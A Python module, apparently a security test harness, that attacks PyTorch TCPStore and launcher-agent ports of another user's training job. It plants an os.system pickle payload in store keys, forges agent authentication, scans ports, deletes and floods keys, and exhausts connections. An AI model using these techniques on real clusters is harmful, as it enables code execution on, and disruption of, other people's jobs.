"""What somebody can do who reaches the ports of another user's job: one function each.

Every attack takes a host and port, and some a word more. It returns how often it was tried and how
often answered as an agent would be, and raises where it could not be tried. Errands return
what was found. Nothing here knows the run's secret, or any file of it: only this package, the job's
number, and what the network gives away.
"""

from __future__ import annotations

import base64
import contextlib
import os
import pickle
import resource
import select
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import timedelta
from functools import cache
from typing import Any

import msgspec

from fsdpkit.launching.message_log import HeadAnswer, Letter, Order, Said
from fsdpkit.launching.policy import Report
from fsdpkit.staging import wire
from fsdpkit.staging.wire import GREETING_BYTES, MAGIC, AttemptKeys

TIMEOUT_S = 3
FLOOD_KEYS, FLOOD_VALUE = 2000, b"x" * 50_000
HELLO = bytes([0]) + (0x3C85F7CE).to_bytes(4, "little")  # torch's own, checked first
PORTS = range(10_000, 30_000)
"""Of which agents and the ranks' store take theirs, as the profile without a word about it says."""
AT_A_TIME = 400
PING, ANSWER_S = (7).to_bytes(4, "little"), 1.0
C10D_KEYS = ("torch.rendezvous", "rdzv/torch.rendezvous.1_0", "torch.rendezvous.1_0_0")
GLOO_KEYS = tuple(f"default_pg/0//cpu//0/{rank}" for rank in range(4))
Done = tuple[int, int]
"""How often it was tried, and answered."""
_held: list[socket.socket] = []
"""Connections that stay open until `let_go`."""
_over = threading.Event()
"""Ends what goes on in the background."""
_busy: list[threading.Thread] = []
_times: Counter[str] = Counter()
"""How often each of them did what it does."""


def new_client(host: str, port: int) -> Any:
    from torch.distributed import TCPStore

    return TCPStore(
        host, port, wait_for_workers=False, timeout=timedelta(seconds=TIMEOUT_S), use_libuv=True
    )


connect = cache(new_client)


def contents(host: str, port: int) -> dict[str, bytes]:
    """Every key and its value, also of those whose names are secret."""
    store = connect(host, port)
    found = {}
    for key in store.list_keys():
        with contextlib.suppress(RuntimeError):  # deleted in the meantime
            found[key] = bytes(store.get(key))
    return found


# Code in what somebody may unpickle


class _Planted:
    def __init__(self, marker: str) -> None:
        self.command = f"id -un >>{marker}"

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def plant_pickle(host: str, port: int, marker: str) -> Done:
    """Whoever loads one runs a command: in place of every value, where c10d has its state, and
    where ranks of gloo leave their addresses, before they do."""
    store, code = connect(host, port), pickle.dumps(_Planted(marker))
    planted = 0
    for key, value in contents(host, port).items():
        store.set(key, _with_pickle(value, code) or code)
        planted += 1
    for key in C10D_KEYS:
        store.set(key, base64.b64encode(code))
        planted += 1
    for key in GLOO_KEYS:
        store.set(key, code)
        planted += 1
    return planted, 0


def _with_pickle(value: bytes, code: bytes) -> bytes | None:
    """The value with its pickle replaced, and all around it as it was; None: it has none."""
    if (at := value.find(b"\x80\x04\x95")) >= 0:
        return value[:at] + code
    for start in (0, *(n + 1 for n, byte in enumerate(value) if not chr(byte).isalnum())):
        if value[start:].startswith((b"gASV", b"gAWV")):
            return value[:start] + base64.b64encode(code)
    return None


# At the agents' door, in their own language


def forge(host: str, port: int, attempt: str, known: str = 64 * "0") -> Done:
    """Claims to be an agent by whoever has the package and not the secret; orders and reports that
    follow at once, as if it had been granted. attempt: the right name of it. known: another
    attempt's secret, in hexadecimal digits."""
    end = msgspec.msgpack.encode(HeadAnswer(0, (Order(do="end", status=0),)))
    done = msgspec.msgpack.encode(Letter(0, (Said(1, Report(0, 1, "node2", "done")),), left=True))
    answers = []
    first = f"{attempt.partition('_')[0]}_0"
    for secret in {bytes(32), b"\xff" * 32, os.urandom(32), bytes.fromhex(known)}:
        for name in {attempt, first, "", "none"}:
            for node in (0, 1, 2, 99, 2**32 - 1):
                keys = AttemptKeys(secret, name)
                with _open(host, port) as connection:
                    greeting = _greeting(connection)
                    claim, frames = wire.claimed(keys, wire.AGENTS, node, greeting)
                    said = claim + frames.seal(end) + frames.seal(done)
                    answers.append(_answers(connection, said))
    return len(answers), sum(answers)


def echo(host: str, port: int) -> Done:
    """The head's own words back to it, and one connection's to another."""
    answers = []
    for _ in range(10):
        with _open(host, port) as one, _open(host, port) as other:
            greetings = [_greeting(connection) for connection in (one, other)]
            answers.append(_answers(one, greetings[1] + bytes(100)))
            answers.append(_answers(other, greetings[0] * 3))
    return len(answers), sum(answers)


def _greeting(connection: socket.socket) -> bytes:
    return connection.recv(GREETING_BYTES, socket.MSG_WAITALL)


def _answers(connection: socket.socket, said: bytes) -> bool:
    with contextlib.suppress(OSError):
        connection.sendall(said)
        return bool(connection.recv(1))
    return False


def speak_torch(host: str, port: int) -> Done:
    """As a client of a TCPStore."""
    from torch.distributed import DistError

    with contextlib.suppress(DistError):
        new_client(host, port)
        return 1, 1
    return 1, 0


def record(_host: str, _port: int) -> Done:
    """What others send, to be sent again: nobody but root hears it."""
    kinds = [(socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 6)]
    heard = 0
    for kind in kinds:
        with contextlib.suppress(PermissionError), socket.socket(*kind):
            heard += 1
    return len(kinds), heard


# In a store


def find_stores(host: str, port: int) -> list[int]:
    """Ports of this host where a TCPStore answers, but for the one that is known already."""
    with contextlib.ExitStack() as opened:
        asked = {}
        for number in _open_ports(host, PORTS):
            with contextlib.suppress(OSError):
                probe = opened.enter_context(_open(host, number))
                probe.sendall(HELLO + bytes([13]) + PING)
                asked[number] = probe
        time.sleep(ANSWER_S)
        return [number for number, probe in asked.items() if number != port and _pongs(probe)]


def _pongs(probe: socket.socket) -> bool:
    probe.setblocking(False)
    with contextlib.suppress(OSError):
        return probe.recv(len(PING)) == PING
    return False


def _open_ports(host: str, numbers: range) -> list[int]:
    """Those that take a connection, many asked at a time."""
    found = []
    for start in range(numbers.start, numbers.stop, AT_A_TIME):
        with contextlib.ExitStack() as opened:
            waiting = select.poll()
            asked = {}
            for number in numbers[start - numbers.start :][:AT_A_TIME]:
                probe = opened.enter_context(socket.socket())
                probe.setblocking(False)
                probe.connect_ex((host, number))
                waiting.register(probe, select.POLLOUT)
                asked[probe.fileno()] = probe, number
            deadline = time.monotonic() + TIMEOUT_S
            while asked and (ready := waiting.poll(1000 * max(0, deadline - time.monotonic()))):
                for descriptor, _ in ready:
                    waiting.unregister(descriptor)
                    probe, number = asked.pop(descriptor)
                    if probe.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                        found.append(number)
    return found


# Force


def delete(host: str, port: int) -> Done:
    store = connect(host, port)
    return sum(store.delete_key(key) for key in contents(host, port)), 0


def overwrite(host: str, port: int) -> Done:
    """Noise in every key."""
    store = connect(host, port)
    keys = [*contents(host, port)]
    for key in keys:
        store.set(key, os.urandom(64))
    return len(keys), 0


def flood(host: str, port: int) -> Done:
    """A hundred megabytes in two thousand keys, and more behind every key that grows."""
    store = connect(host, port)
    for key, value in contents(host, port).items():
        if not value.strip().isdigit():
            store.append(key, FLOOD_VALUE)
    for number in range(FLOOD_KEYS):
        store.set(f"flood/{number}", FLOOD_VALUE)
    return FLOOD_KEYS, 0


def spoil(host: str, port: int, marker: str) -> Done:
    """Code in place of every value as soon as it comes, until `let_go`."""
    store, code = new_client(host, port), pickle.dumps(_Planted(marker))

    def again() -> int:
        keys = [key for key in store.list_keys() if key not in C10D_KEYS]
        for key in keys:
            store.set(key, code)
        return len(keys)

    return _keep_on("spoil", again)


# Below what either speaks


def hurry(host: str, port: int) -> Done:
    """Hundreds of connections a second that end as soon as they are made, until `let_go`."""
    at_once = struct.pack("ii", 1, 0)  # by a reset, which leaves no port waiting

    def again() -> int:
        with _open(host, port) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, at_once)
        return 1

    return _keep_on("hurry", again)


def _keep_on(name: str, action: Callable[[], int]) -> Done:
    """In the background; how often is `let_go`'s to say."""

    def run() -> None:
        while not _over.wait(0.001):
            with contextlib.suppress(OSError, RuntimeError):
                _times[name] += action()

    _over.clear()
    _busy.append(threading.Thread(target=run, daemon=True))
    _busy[-1].start()
    return 0, 0


def idle(host: str, port: int, count: str = "2000") -> Done:
    """Connections that say nothing."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    opened = 0
    with contextlib.suppress(OSError):
        for _ in range(int(count)):
            _held.append(_open(host, port))
            opened += 1
    return opened, 0


def slow(host: str, port: int) -> Done:
    """Claims and requests of which half is sent, and an announcement of a string without end."""
    halves = [*_half_claims(), *_half_requests()] * 5
    for sent in halves:
        connection = _open(host, port)
        connection.sendall(sent)
        _held.append(connection)
    return len(halves), 0


def _half_claims() -> Iterator[bytes]:
    greeting = MAGIC + bytes(GREETING_BYTES - len(MAGIC))
    whole, _ = wire.claimed(AttemptKeys(bytes(32), ""), wire.AGENTS, 1, greeting)
    for length in (1, len(MAGIC), len(whole) - 1):
        yield whole[:length]


def _half_requests() -> Iterator[bytes]:
    yield HELLO[:3]
    for request in range(1, 16):
        yield HELLO + bytes([request])
        yield HELLO + bytes([request]) + (2**63 - 1).to_bytes(8, "little") + b"key"


def noise(host: str, port: int) -> Done:
    """Bytes of no protocol, and of others."""
    words = [os.urandom(4096), b"GET / HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00", b"\xff" * 65536]
    for sent in words * 5:
        with _open(host, port) as connection, contextlib.suppress(OSError):
            connection.sendall(sent)
    return len(words) * 5, 0


def let_go(_host: str, _port: int) -> dict[str, int]:
    """End what goes on and close what is open; how often the former happened, by attack."""
    _over.set()
    while _busy:
        _busy.pop().join()
    while _held:
        _held.pop().close()
    times = dict(_times)
    _times.clear()
    return times


def _open(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=TIMEOUT_S)


AT_THE_DOOR = (forge, echo, speak_torch, record, noise, slow, idle, hurry)
IN_THE_STORE = (plant_pickle, spoil, delete, overwrite, flood, noise, slow, idle)
ERRANDS = (find_stores, let_go)
ATTACKS: dict[str, Callable[..., Any]] = {
    each.__name__: each for each in (*AT_THE_DOOR, *IN_THE_STORE, *ERRANDS)
}
